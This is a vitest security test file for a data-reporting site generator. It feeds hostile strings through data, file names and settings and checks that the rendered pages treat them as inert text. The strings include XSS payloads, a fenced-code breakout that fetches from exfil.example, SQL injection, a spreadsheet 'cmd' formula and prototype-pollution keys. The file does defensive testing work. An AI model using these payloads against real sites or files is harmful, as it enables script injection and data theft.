import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, expect, test, vi } from "vitest";
import { build } from "../../pipeline/engine/build.js";
import { Database } from "../../pipeline/engine/database.js";
import { silentLog } from "../../pipeline/engine/log.js";
import { loadProject } from "../../pipeline/engine/project.js";
import { pages } from "../../src/pages/index.js";
import { visit, type Visitor } from "./browser.js";

/* Texts that try to be more than text, in every place that a project has: data, names of files, settings. */

vi.setConfig({ testTimeout: 300_000, hookTimeout: 300_000 });

const root = resolve(import.meta.dirname, "../..");
const folder = mkdtempSync(join(tmpdir(), "clientele-hostile-"));
let visitor: Visitor;

/** Ends the block of HTML by carriage returns, and begins one that Framework would run. */
const FENCE = "x\r\r```js\rwindow.ATTACKED = 1; fetch(`https://exfil.example/`)\r```\r\rx";
/** A name from right to left that ends with a number: what follows it would join it. */
const RIGHT_TO_LEFT = "אבג 12";
const TEXTS = [
  FENCE, FENCE.replaceAll("\r", "\n"), "<script>window.ATTACKED = 1</script>", "<img src=x onerror=\"window.ATTACKED = 1\">", "\"><svg onload='window.ATTACKED = 1'>",
  "${window.ATTACKED = 1}", "</code></pre><script>window.ATTACKED = 1</script>", "---\ntitle: x\n---", "# Head\n\n[x](javascript:window.ATTACKED=1)", "'; drop table x; --", "=cmd|'/C calc'!A0",
  "constructor", "__proto__", RIGHT_TO_LEFT,
];

beforeAll(async () => {
  const project = join(folder, "company");
  mkdirSync(project, { recursive: true });
  const text = (value: string) => `'${value.replaceAll("'", "''")}'`;
  const db = await Database.open();
  // Parquet, for it keeps a carriage return that a CSV file loses.
  await db.run(`create table customers as select 'C' || n as id, list_value(${TEXTS.map(text).join(", ")})[1 + n % ${TEXTS.length}] as name,
    list_value(${TEXTS.map(text).join(", ")})[1 + (n // 3) % ${TEXTS.length}] as region, 'business' as kind from range(66) as numbers(n)`);
  await db.run(`copy customers to ${text(join(project, "customers.parquet"))} (format parquet)`);
  await db.run(`copy (select 'O' || n as id, 'C' || n % 66 as customer, date '2024-01-01' + (n % 700)::integer as day, 10 + n % 97 as amount from range(900) as numbers(n))
    to ${text(join(project, `orders${FENCE.replaceAll("/", "")}.csv`))} (format csv, header)`);
  db.close();
  writeFileSync(join(project, "project.yaml"), `
name: ${JSON.stringify(`A & B ${TEXTS[2]!}`)}
reporting_currency: EUR
privacy: { customers: name }
entities:
  customers:
    - files: customers.parquet
      columns: { customer_id: id, name: name, region: region, channel: region, owner: name, kind: kind }
  orders:
    - files: orders*.csv
      columns: { order_id: id, customer_id: customer, order_date: day, amount: amount }
settings:
  value:
    tiers:
      - { tier: ${JSON.stringify(FENCE)}, top_share: 0.1, action: ${JSON.stringify(TEXTS[3])} }
      - { tier: b, top_share: 1, action: ${JSON.stringify(FENCE)} }
`);
  const dist = join(folder, "dist");
  await build(loadProject(project), { root, buildFolder: join(folder, "build"), dist, log: silentLog, now: () => 0 });
  visitor = await visit(dist);
});
afterAll(async () => {
  await visitor.close();
  rmSync(folder, { recursive: true, force: true });
});

test.each([...pages.map(({ path }) => path), "zh/composition", "zh/value"])("on %s every text of the data stays text", async (path) => {
  const { page, faults } = await visitor.open(path);
  expect(faults).toEqual([]);
  expect(await page.evaluate(() => (globalThis as { ATTACKED?: number }).ATTACKED)).toBeUndefined();
  expect(await page.title()).toContain("A & B <script>");
  expect(await page.locator("main script, main style, main [onerror], main [onload]").count()).toBe(0);
  expect(await page.locator("script").count()).toBe(1);
  await page.context().close();
});

test("the texts are shown as they stand", async () => {
  const { page } = await visitor.open("composition");
  const shown = await page.locator("main").innerText();
  for (const text of TEXTS.slice(2, 7)) expect(shown).toContain(text);
  await page.context().close();
});

test.each(["composition", "rfm", "customers", "zh/composition"])("on %s a name from right to left turns nothing beside it", async (path) => {
  const { page } = await visitor.open(path);
  const { places, turned } = await page.evaluate((name) => {
    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT, (text) => (text.textContent!.includes(name) ? NodeFilter.FILTER_ACCEPT : NodeFilter.FILTER_SKIP));
    const places: HTMLElement[] = [];
    while (texts.nextNode()) places.push(texts.currentNode.parentElement!);
    const shown = places.filter((place) => place.checkVisibility() && getComputedStyle(place).display === "inline");
    const turned = shown.filter((place) => {
      const number = document.createTextNode(" 34");
      place.parentElement!.style.whiteSpace = "nowrap";
      place.after(number);
      const range = document.createRange();
      range.selectNode(number);
      const isLeft = range.getBoundingClientRect().left < place.getBoundingClientRect().right - 1;
      number.remove();
      return isLeft;
    });
    return { places: shown.length, turned: turned.map((place) => place.outerHTML) };
  }, RIGHT_TO_LEFT);
  expect(places).toBeGreaterThan(0);
  expect(turned).toEqual([]);
  await page.context().close();
});
